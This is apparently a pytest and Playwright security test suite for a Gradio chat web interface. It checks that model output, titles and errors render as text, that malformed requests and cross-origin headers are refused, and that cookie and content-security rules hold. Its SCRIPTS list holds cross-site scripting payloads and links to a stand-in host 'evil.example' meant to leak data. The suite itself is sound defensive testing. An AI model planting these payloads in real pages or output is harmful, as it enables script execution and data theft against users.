"""Nothing that a model, a title or another site says runs, loads or enters."""

from __future__ import annotations

import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.app.route_walk import walk
from tests.ui.conftest import Profile, Served, answer, say

SCRIPTS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><animate onbegin='window.hit = 1' attributeName=x dur=1s></svg>",
    "<svg><script>window.hit = 1</script></svg>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<iframe src='javascript:parent.hit = 1'></iframe>",
    "<object data='javascript:window.hit = 1'></object><embed src='javascript:window.hit = 1'>",
    "<details open ontoggle='window.hit = 1'>x</details>",
    "<input autofocus onfocus='window.hit = 1'>",
    "<style>@import 'http://evil.example/a.css'; body { background: url(http://evil.example/b) }</style>",
    "<link rel=stylesheet href='http://evil.example/c.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/d'>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example/e'><button>x</button></form>",
    "<video src='http://evil.example/f' autoplay></video><audio src='http://evil.example/g'></audio>",
    "![x](http://evil.example/h?q=secret) ![x](//evil.example/i)",
    "[x](javascript:window.hit=1) <a href='javascript:window.hit=1'>y</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.hit = 1'></style></table></mtext></math>",
    "${window.hit = 1} {{constructor.constructor('window.hit = 1')()}}",
    "$$\\href{javascript:window.hit=1}{x}$$ $$\\includegraphics{http://evil.example/j}$$",
    "```html\n<img src=x onerror='window.hit = 1'>\n```",
    "```\"><img src=x onerror='window.hit = 1'>\nx\n```",
    "</div></span><img src=x onerror='window.hit = 1'>",
    "<noscript><p title=\"</noscript><img src=x onerror='window.hit = 1'>\"></noscript>",
]


def test_what_a_model_writes_runs_nothing(profile: Profile, served: Served) -> None:
    """In pieces of three characters, whole, and read back. A request to others fails the profile's check."""
    page = profile.open()
    stream = say(page, served, "Attack\n" + "\n".join(SCRIPTS))
    for script in SCRIPTS:
        for start in range(0, len(script), 3):
            stream.write(script[start : start + 3])
        stream.write("\n\n")
    stream.write("The end.")
    expect(answer(page)).to_contain_text("The end.")
    stream.finish()
    expect(page.locator("#send")).to_be_visible()
    page.reload()
    expect(answer(page)).to_contain_text("The end.")
    for link in page.locator("#talk a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    assert page.evaluate("window.hit") is None
    expect(page.locator("#talk .said")).to_contain_text("<img src=x onerror='window.hit = 1'>")
    assert {urlsplit(url).hostname for url in profile.blocked} == {"evil.example"}  # so some were tried
    expected = (
        "Content Security Policy",
        "404",
    )  # the second for <img src=x>, a picture of our own that is not there
    profile.errors = [error for error in profile.errors if not any(known in error for known in expected)]


def test_titles_and_errors_are_text(page: Page, served: Served) -> None:
    for script in SCRIPTS[:3]:
        page.keyboard.press("Control+Shift+O")
        expect(page.get_by_role("heading", name="A blank page.")).to_be_visible()
        stream = say(page, served, script)
        stream.finish(error=script)
        expect(page.get_by_role("alert")).to_have_text(script)
        for place in ("h1", ".chat.is-current .title"):
            expect(page.locator(place)).to_contain_text(script[:40])
    assert page.evaluate("window.hit") is None


HOSTILE: list[object] = [
    *(None, 7, "x", [], {}, {"do": "new\0"}, {"do": ["send"]}, {"do": "send"}, {"do": "delete", "chat": 1}),
    {"do": "send", "chat": {}, "text": []},
    {"do": "text", "chat": "x", "message": None},
    {"do": "rename", "chat": "no such chat", "title": "x"},
]


@pytest.mark.parametrize("asked", [*HOSTILE, {"chat": [], "last": -7, "ask": "1"}, {"last": 1e9, "ask": {}}])
def test_what_a_tab_asks_to_see_is_not_trusted(asked: object) -> None:
    from ui.chat_page import wanted
    from ui.talk import MOST_MESSAGES

    chat, last, ask = wanted(asked)
    assert isinstance(chat, str) and 1 <= last <= MOST_MESSAGES and ask == 0


@pytest.mark.parametrize("payload", HOSTILE)
def test_what_a_browser_sends_is_not_trusted(served: Served, payload: object) -> None:
    from ui.acts import perform
    from ui.chat_page import ACTS, ChatPage

    page = ChatPage(served.services.chats, served.services.runtime, lambda: None)
    before = served.services.chats.list_chats()
    assert set(perform(ACTS, page, payload)) == {"error"}
    assert page.frame(payload)
    assert served.services.chats.list_chats() == before


def _status(url: str, **headers: str) -> int:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code


def test_the_page_needs_its_cookie(served: Served, browser: Browser) -> None:
    assert _status(served.url) == 401
    link = served.services.keys.link(served.services.guard.port)
    context = browser.new_context()
    tab = context.new_page()
    tab.goto(link)
    expect(tab.locator("#draft")).to_be_enabled()
    assert tab.evaluate("document.cookie") == ""
    assert [cookie["sameSite"] for cookie in context.cookies()] == ["Strict"]
    context.close()
    again = browser.new_context()
    response = again.new_page().goto(link)
    assert response is not None and response.status == 401
    again.close()


FOREIGN = [
    {"Host": "evil.example"},
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Sec-Fetch-Site": "cross-site"},
]


@pytest.mark.parametrize("headers", FOREIGN)
@pytest.mark.parametrize("method", ["GET", "POST", "OPTIONS", "HEAD"])
def test_no_route_of_gradio_answers_another_site(
    served: Served, method: str, headers: dict[str, str]
) -> None:
    """Preflight requests too, which Gradio's own layer would answer."""
    cookie = f"{served.cookie['name']}={served.cookie['value']}"
    if method == "OPTIONS":
        headers = {**headers, "Access-Control-Request-Method": "POST"}
    request = urllib.request.Request(
        served.url + "gradio_api/queue/join", method=method, headers={**headers, "Cookie": cookie}
    )
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=10)
    assert refused.value.code == 403
    assert "access-control-allow-origin" not in refused.value.headers


def test_the_page_shows_itself_to_no_frame_and_loads_from_nowhere_else(
    served: Served, profile: Profile
) -> None:
    page = profile.context.new_page()
    response = page.goto(served.url)
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "connect-src 'self'" in policy


def test_the_browser_asks_for_no_manifest(profile: Profile) -> None:
    """It would send no cookie, and the console would show a 401."""
    page = profile.open()
    found = profile.context.new_cdp_session(page).send("Page.getAppManifest")
    assert (found["url"], found["errors"]) == ("", [])


def test_a_walk_over_all_routes_of_the_real_page(served: Served) -> None:
    """Gradio's own, the API's and the page's, with every wrong Host, Origin and secret. None may answer."""
    keys, port = served.services.keys, served.services.guard.port
    with ThreadPoolExecutor(1) as pool:  # this thread's event loop is Playwright's
        found = pool.submit(walk, served.app, served.app.routes, keys, port, 240).result()
    assert {"/v1/chat/completions", "/gradio_api/queue/join", "/gradio_api/component_server"} <= set(
        found.paths
    )
    assert len(found.paths) > 60
    assert found.breaches == []
